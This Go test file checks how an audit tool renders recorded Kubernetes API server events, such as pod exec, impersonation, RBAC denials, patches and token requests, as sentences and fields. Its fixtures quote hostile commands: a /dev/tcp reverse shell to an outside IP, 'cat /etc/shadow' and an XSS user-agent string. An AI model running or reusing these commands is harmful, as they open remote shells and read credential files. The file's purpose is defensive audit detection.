package audit

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

// TestTraps has what real events do otherwise than one would think, each with an event of a real API server. The sentence
// must say what happened, and the data must let a search find it.
func TestTraps(t *testing.T) {
	for _, tt := range []struct {
		trap, event string
		sentence    string
		check       func(t *testing.T, a Answer)
	}{
		{"kubectl exec is verb get since it speaks WebSocket", "exec-websocket",
			`mallory@corp.example (person) ran "sh -c 'id; cat /etc/shadow'" in pod shop-prod/sys-cache-target (container main): allowed`,
			func(t *testing.T, a Answer) {
				assert.Equal(t, "get", a.What.Verb)
				assert.Equal(t, ActionExec, a.What.Action)
				assert.Equal(t, []string{"sh", "-c", "id; cat /etc/shadow"}, a.What.Command)
				assert.Equal(t, "main", a.Where.Container)
				assert.Equal(t, OutcomeConnected, a.What.Outcome)
				assert.Equal(t, 101, a.What.Code)
			}},
		{"SPDY clients give verb create for the same", "exec-spdy",
			`mallory@corp.example (person) ran "bash -c 'bash -i >& /dev/tcp/203.0.113.99/4444 0>&1'" in pod shop-prod/sys-cache-target (container main): allowed`,
			func(t *testing.T, a Answer) {
				assert.Equal(t, "create", a.What.Verb)
				assert.Equal(t, ActionExec, a.What.Action)
			}},
		{"a stream shows at ResponseStarted already, with code 101", "exec-websocket-started",
			`mallory@corp.example (person) is running "sh -c 'id; cat /etc/shadow'" in pod shop-prod/sys-cache-target (container main): allowed`,
			func(t *testing.T, a Answer) { assert.Equal(t, OutcomeConnected, a.What.Outcome) }},
		{"RequestReceived is an attempt", "exec-requested",
			`mallory@corp.example (person) is asking to run "bash -c 'bash -i >& /dev/tcp/203.0.113.99/4444 0>&1'" in pod shop-prod/sys-cache-target (container main)`,
			func(t *testing.T, a Answer) { assert.Equal(t, OutcomeRequested, a.What.Outcome) }},
		{"a denied exec is denied at ResponseStarted too", "exec-denied-started",
			`trent@corp.example (person) was denied running "id" in pod shop-prod/sys-cache-target (container main) by RBAC`,
			func(t *testing.T, a Answer) { assert.Equal(t, OutcomeDenied, a.What.Outcome) }},
		{"server-side apply creates with verb patch and code 201", "apply-creates",
			`mallory@corp.example (person) created pod shop-prod/sys-cache-ssa by server-side apply (image docker.io/library/alpine:3.20, privileged)`,
			func(t *testing.T, a Answer) {
				assert.Equal(t, "patch", a.What.Verb)
				assert.Equal(t, ActionApply, a.What.Action)
				assert.Equal(t, []string{"privileged"}, a.What.Privileges)
				assert.Equal(t, []string{"docker.io/library/alpine:3.20"}, a.Where.Images)
			}},
		{"a JSON patch makes requestObject an array", "json-patch",
			`mallory@corp.example (person) patched role kube-system/system:controller:token-cleaner (add /rules/-, allowing get on configmaps)`,
			func(t *testing.T, a Answer) {
				assert.Equal(t, []string{"add /rules/-"}, a.What.Patch)
				assert.Equal(t, []Rule{{Verbs: []string{"get"}, APIGroups: []string{""}, Resources: []string{"configmaps"}}}, a.What.Rules)
			}},
		{"a merge patch is a part of an object, without kind", "merge-patch",
			`mallory@corp.example (person) patched configmap kube-system/coredns (set data.Corefile)`,
			func(t *testing.T, a Answer) { assert.Equal(t, []string{"set data.Corefile"}, a.What.Patch) }},
		{"an apply patch in YAML leaves RequestReceived only", "apply-yaml-lost",
			`mallory@corp.example (person) is asking to apply pod shop-prod/sys-cache-ssay`,
			func(t *testing.T, a Answer) { assert.Equal(t, OutcomeRequested, a.What.Outcome) }},
		{"401 has no user, no annotations and stage ResponseStarted", "unauthenticated",
			`a client at 10.52.3.4 failed authentication when asking to list configmaps in data-platform`,
			func(t *testing.T, a Answer) {
				assert.Equal(t, UserUnknown, a.Who.Kind)
				assert.Equal(t, OutcomeUnauthenticated, a.What.Outcome)
				assert.Equal(t, "ResponseStarted", a.When.Stage)
			}},
		{"anonymous is a user with a name and a group", "anonymous",
			`an anonymous client at 203.0.113.7 listed pods in all namespaces (2 returned)`,
			func(t *testing.T, a Answer) { assert.Equal(t, UserAnonymous, a.Who.Kind) }},
		{"denied by RBAC: 403, decision forbid, reason empty", "denied-by-rbac",
			`trent@corp.example (person) was denied listing secrets in all namespaces by RBAC`,
			func(t *testing.T, a Answer) {
				assert.Equal(t, OutcomeDenied, a.What.Outcome)
				assert.Equal(t, "forbid", a.What.Decision)
			}},
		{"denied to a node, with the node authorizer's reason", "denied-to-node",
			`system:node:rogue-worker-1 (node) was denied reading secret shop-prod/db-credentials by the authorizers ("no relationship found between node 'rogue-worker-1' and this object")`,
			func(t *testing.T, a Answer) { assert.Equal(t, UserNode, a.Who.Kind) }},
		{"refused by admission: 403, decision allow", "refused-noderestriction",
			`system:node:rogue-worker-1 (node) was refused patching node "gke-prod-pool-1-5d1a7e3b-h2vd" (set metadata.labels.x) by admission: 'node "rogue-worker-1" is not allowed to modify node "gke-prod-pool-1-5d1a7e3b-h2vd"'`,
			func(t *testing.T, a Answer) { assert.Equal(t, OutcomeRefused, a.What.Outcome) }},
		{"RBAC itself refuses after it allowed: escalation", "refused-escalation",
			`wendy@corp.example (person) was refused creating role shop-dev/sys-cache-esc (allowing * on *) by RBAC's check against escalation: the user does not have '{APIGroups:["*"], Resources:["*"], Verbs:["*"]}'`,
			func(t *testing.T, a Answer) { assert.Equal(t, OutcomeRefused, a.What.Outcome) }},
		{"the client chose an audit id with quotes and braces", "audit-id-odd",
			`mallory@corp.example (person) is asking to list services in shop-prod`, nil},
		{"generateName: the name is in the response only", "generate-name",
			`mallory@corp.example (person) created pod shop-prod/sys-cache-gen-825pz (image docker.io/library/alpine:3.20, privileged)`,
			func(t *testing.T, a Answer) {
				assert.Equal(t, "sys-cache-gen-825pz", a.What.Name)
				assert.Empty(t, a.What.GenerateName)
				assert.Equal(t, "pods/shop-prod/sys-cache-gen-825pz", a.Where.Object)
				assert.NotEmpty(t, a.Where.UID)
			}},
		{"generateName: before the response there is no name", "generate-name-requested",
			`mallory@corp.example (person) is asking to create a pod in shop-prod`,
			func(t *testing.T, a Answer) { assert.Empty(t, a.What.Name) }},
		{"generateName: refused, the name never came to be", "refused-terminating",
			`system:serviceaccount:kube-system:replicaset-controller (service account) was refused creating a pod in preview-pr-8095 (to be named "storefront-549c67f977-*", image europe-docker.pkg.dev/example-project/apps/storefront:pr) by admission: "unable to create new content in namespace preview-pr-8095 because it is being terminated"`,
			func(t *testing.T, a Answer) {
				assert.Empty(t, a.What.Name)
				assert.Equal(t, "storefront-549c67f977-", a.What.GenerateName)
			}},
		{"the pods of a privileged deployment are made by a controller", "generate-name-controller",
			`system:serviceaccount:kube-system:replicaset-controller (service account) created pod shop-prod/sys-cache-pd-54c9d7584-b7pld (image docker.io/nicolaka/netshoot:latest, privileged, host network and host PID)`,
			func(t *testing.T, a Answer) {
				assert.Equal(t, &ServiceAccount{Namespace: "kube-system", Name: "replicaset-controller"}, a.Who.ServiceAccount)
			}},
		{"a dry run shows in the URI only", "dry-run",
			`mallory@corp.example (person) did a dry run of creating pod shop-prod/sys-cache-dry (image alpine, privileged): nothing was stored`,
			func(t *testing.T, a Answer) {
				assert.Equal(t, OutcomeDryRun, a.What.Outcome)
				assert.Equal(t, 201, a.What.Code)
			}},
		{"impersonation: user is the real one", "impersonation",
			`kubernetes-admin (person), impersonating erin@example.com (person), listed pods in payments-staging (2 returned)`,
			func(t *testing.T, a Answer) {
				assert.Equal(t, "kubernetes-admin", a.Who.Name)
				assert.Equal(t, "erin@example.com", a.Who.Impersonated.Name)
				assert.NotEmpty(t, a.Who.Impersonated.Groups)
			}},
		{"impersonation allowed, the request denied", "impersonation-denied-target",
			`kubernetes-admin (person), impersonating grace@example.com (person), was denied listing pods in ml-infra by RBAC`,
			func(t *testing.T, a Answer) { assert.Equal(t, OutcomeDenied, a.What.Outcome) }},
		{"a refused impersonation has no impersonatedUser and no decision", "impersonation-refused",
			`alice@example.com (person) was denied impersonating user "kubernetes-admin" when asking to list pods in kube-system`,
			func(t *testing.T, a Answer) {
				assert.Equal(t, OutcomeImpersonationDenied, a.What.Outcome)
				assert.Equal(t, &DeniedTarget{Kind: "users", Name: "kubernetes-admin"}, a.What.Denied)
				assert.Nil(t, a.Who.Impersonated)
			}},
		{"kubectl debug patches spec.ephemeralContainers", "ephemeral-container",
			`mallory@corp.example (person) added a debug container dbg-a to pod shop-prod/sys-cache-target (image docker.io/nicolaka/netshoot:latest)`,
			func(t *testing.T, a Answer) {
				assert.Equal(t, ActionDebug, a.What.Action)
				assert.Equal(t, "dbg-a", a.Where.Container)
			}},
		{"node proxy, with scheme and port in the name", "node-proxy-https",
			`system:serviceaccount:shop-dev:sys-cache-np (service account) proxied get /pods to node "gke-prod-pool-1-5d1a7e3b-h2vd" (https, port 10250)`,
			func(t *testing.T, a Answer) {
				assert.Equal(t, "gke-prod-pool-1-5d1a7e3b-h2vd", a.What.Name)
				assert.Equal(t, "gke-prod-pool-1-5d1a7e3b-h2vd", a.Where.Node)
				assert.Equal(t, &Proxy{Scheme: "https", Port: "10250", Path: "/pods"}, a.What.Proxy)
			}},
		{"node proxy, plain", "node-proxy",
			`system:serviceaccount:shop-dev:sys-cache-np (service account) proxied get /runningpods/ to the kubelet of node "gke-prod-pool-1-5d1a7e3b-h2vd"`,
			func(t *testing.T, a Answer) { assert.Equal(t, &Proxy{Path: "/runningpods/"}, a.What.Proxy) }},
		{"service proxy, the API server could not reach it", "service-proxy",
			`mallory@corp.example (person) tried to proxy get /admin to service shop-prod/web (http, port 80): failed with 503 ("error trying to reach service: dial tcp 10.52.0.56:8080: connect: connection refused")`,
			func(t *testing.T, a Answer) {
				assert.Equal(t, OutcomeFailed, a.What.Outcome)
				assert.Equal(t, "services/shop-prod/web", a.Where.Object)
			}},
		{"deletecollection is a verb of its own", "deletecollection",
			`system:serviceaccount:kube-system:namespace-controller (service account) deleted the collection of secrets in sys-cache-act`,
			func(t *testing.T, a Answer) { assert.Equal(t, ActionDeleteCollection, a.What.Action) }},
		{"TokenRequest: lifetime, audiences and the id of the token", "token",
			`mallory@corp.example (person) created a token for serviceaccount shop-prod/jenkins-agent (valid for 365 days, audience https://kubernetes.default.svc.cluster.local)`,
			func(t *testing.T, a Answer) {
				assert.Equal(t, int64(31536000), a.What.Token.ExpirationSeconds)
				assert.Equal(t, []string{"https://kubernetes.default.svc.cluster.local"}, a.What.Token.Audiences)
				assert.Equal(t, "JTI=30e74c94-19cb-4dd1-99e6-9725ac005881", a.What.Token.CredentialID)
			}},
		{"certificate users carry a fingerprint", "denied-by-rbac",
			`trent@corp.example (person) was denied listing secrets in all namespaces by RBAC`,
			func(t *testing.T, a Answer) { assert.Contains(t, a.Who.CredentialID, "X509SHA256=") }},
		{"slow requests have latency annotations; a stream tells how long it ran", "port-forward-slow",
			`mallory@corp.example (person) port-forwarded to pod shop-prod/sys-cache-target for 1.4s: allowed`, nil},
		{"a zero is left out of the Scale in the response", "scale-to-zero",
			`mallory@corp.example (person) scaled deployment shop-prod/web to 0 replicas`,
			func(t *testing.T, a Answer) { assert.Equal(t, int64(0), *a.What.Replicas) }},
		{"a deleted namespace is still there", "namespace-deleted",
			`mallory@corp.example (person) deleted namespace "sys-cache-shadow" (still terminating)`, nil},
		{"a list with metadata.name selected has a name in objectRef", "list-field-selector",
			`mallory@corp.example (person) listed secrets in shop-prod with field selector "metadata.name=db-credentials" (1 returned)`, nil},
		{"kubectl get asks for a table", "list-table",
			`mallory@corp.example (person) listed rolebindings in all namespaces (2 returned)`,
			func(t *testing.T, a Answer) { assert.Equal(t, "kubectl v1.35", a.Who.Client) }},
		{"no user agent", "user-agent-missing", `mallory@corp.example (person) listed configmaps in shop-prod (2 returned)`,
			func(t *testing.T, a Answer) { assert.Empty(t, a.Who.UserAgent+a.Who.Client) }},
		{"a user agent with markup is data, no client", "user-agent-odd", `mallory@corp.example (person) listed secrets in shop-prod (2 returned)`,
			func(t *testing.T, a Answer) {
				assert.Equal(t, "<script>alert(1)</script> é中 kubectl", a.Who.UserAgent)
				assert.Empty(t, a.Who.Client)
			}},
	} {
		t.Run(tt.trap, func(t *testing.T) {
			a := recorded(t, tt.event)
			assert.Equal(t, tt.sentence, a.Sentence())
			if tt.check != nil {
				tt.check(t, a)
			}
		})
	}
}
